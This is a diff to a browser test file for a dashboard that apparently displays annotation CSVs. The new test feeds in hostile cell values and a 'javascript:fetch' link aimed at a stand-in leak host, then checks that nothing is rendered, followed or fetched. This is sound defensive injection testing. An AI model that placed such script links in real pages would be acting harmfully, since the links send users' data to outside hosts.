@@ -4,6 +4,7 @@ from collections.abc import Callable
 from pathlib import Path
 
 from tests.browser.conftest import Visit
+from tests.browser.test_dashboard import HOSTILE, LEAK
 
 CSV = "item,annotator,label,text\n" + "".join(
     f"i{n:03},{who},{'yes' if (n + place * (n % 4 == 0)) % 3 else 'no'},text {n}\n" for n in range(120) for place, who in enumerate(["ann", "bob", "eve"])
@@ -58,4 +59,21 @@ def test_a_row_leads_to_another_page_once_and_again_when_it_is_selected_again(da
         visit.follow("Agreement")
         visit.page.wait_for_timeout(1_000)
         assert visit.settled().page.url.partition("?")[0].endswith("/Agreement")
+    assert visit.errors == []
+
+
+def test_hostile_names_texts_and_links_are_shown_and_never_obeyed(dashboard: Callable, tmp_path: Path) -> None:
+    quoted = '"' + HOSTILE.replace('"', '""')
+    link = f"javascript:fetch('http://{LEAK}')"
+    lines = [
+        f'{quoted} {n}",{quoted} {who}",{quoted} {(n + who * (n % 4 == 0)) % 3}",{quoted}","{link}"\n' for n in range(20) for who in range(3)
+    ]  # fmt: skip
+    (tmp_path / "hostile.csv").write_text("item,annotator,label,text,link\n" + "".join(lines))
+    visit = dashboard(ASSAY_STUDY=str(tmp_path / "hostile.csv")).open("Items")
+    select(visit, 2)
+    assert "items.item=" in visit.page.url
+    inside = visit.page.locator('[data-testid="stApp"]')
+    assert inside.locator(f'img[src*="{LEAK}"], a[href*="javascript"], a[href*="evil.example"]').count() == 0
+    assert "bold" not in inside.locator("strong").all_inner_texts()
+    assert visit.outside == []
     assert visit.errors == []
